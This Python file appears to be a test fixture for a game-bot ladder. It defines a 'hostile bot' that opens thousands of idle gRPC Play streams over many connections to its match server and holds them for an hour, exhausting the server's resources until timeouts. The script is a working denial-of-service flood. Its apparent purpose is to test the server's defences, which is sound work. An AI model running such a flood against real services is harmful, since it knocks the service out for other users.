"""A hostile bot that opens as many Play streams as it can to its match server and
sends nothing on them (no Hello): each one the server accepts costs it a call, a task
and their buffers until its hello timeout (30 s), in the server's process (a ladder's
own), outside every bot's limits.

``CIRULLA_SERVER`` (its sandbox's relay endpoint) is dialled over ``--connections``
connections (the relay holds 16 a process), ``--streams`` streams in all; it says on
stdout how many it opened (``STREAMS opened=N``), then holds them ``--hold`` seconds.
"""

from __future__ import annotations

import argparse
import asyncio
import os

import grpc

from cirulla.v1 import match_service_pb2_grpc


async def flood(address: str, connections: int, streams: int, hold: float) -> None:
    # a subchannel pool per channel: each channel its own connection
    options = [("grpc.use_local_subchannel_pool", 1)]
    channels = [grpc.aio.insecure_channel(address, options=options) for _ in range(connections)]
    stubs = [match_service_pb2_grpc.MatchServiceStub(channel) for channel in channels]
    calls = []
    for n in range(streams):
        calls.append(stubs[n % connections].Play())
        if n % 200 == 0:
            await asyncio.sleep(0)  # let them go out
    print(f"STREAMS opened={len(calls)}", flush=True)
    await asyncio.sleep(hold)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--connections", type=int, default=16)
    parser.add_argument("--streams", type=int, default=20_000)
    parser.add_argument("--hold", type=float, default=3600.0)
    args = parser.parse_args()
    address = os.environ["CIRULLA_SERVER"]
    asyncio.run(flood(address, args.connections, args.streams, args.hold))


if __name__ == "__main__":
    main()
